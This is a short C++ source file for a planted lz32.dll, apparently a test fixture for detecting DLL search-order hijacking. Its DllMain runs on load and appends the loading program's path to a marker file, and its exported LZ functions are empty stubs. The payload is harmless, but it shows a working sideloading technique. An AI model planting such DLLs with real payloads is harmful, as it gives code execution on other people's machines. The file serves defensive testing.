// A hostile lz32.dll planted beside a program or in its working directory: when loaded it
// appends the loading program's path to c:\qvxe2e\planted.txt. Its entries do nothing.
#include <windows.h>

BOOL WINAPI DllMain(HINSTANCE, DWORD reason, LPVOID)
{
    if (reason != DLL_PROCESS_ATTACH)
        return TRUE;
    char program[MAX_PATH + 2] = "";
    DWORD length = GetModuleFileNameA(nullptr, program, MAX_PATH);
    lstrcpyA(program + length, "\r\n");
    HANDLE marker = CreateFileA("c:\\qvxe2e\\planted.txt", FILE_APPEND_DATA, FILE_SHARE_READ, nullptr, OPEN_ALWAYS,
                                0, nullptr);
    DWORD written;
    WriteFile(marker, program, length + 2, &written, nullptr);
    CloseHandle(marker);
    return TRUE;
}

extern "C" {
__declspec(dllexport) INT WINAPI LZInit(INT) { return -1; }
__declspec(dllexport) INT WINAPI LZOpenFileA(LPSTR, LPOFSTRUCT, WORD) { return -1; }
__declspec(dllexport) INT WINAPI LZRead(INT, LPSTR, INT) { return -1; }
__declspec(dllexport) LONG WINAPI LZSeek(INT, LONG, INT) { return -1; }
__declspec(dllexport) void WINAPI LZClose(INT) {}
__declspec(dllexport) INT WINAPI GetExpandedNameA(LPSTR, LPSTR) { return -1; }
}
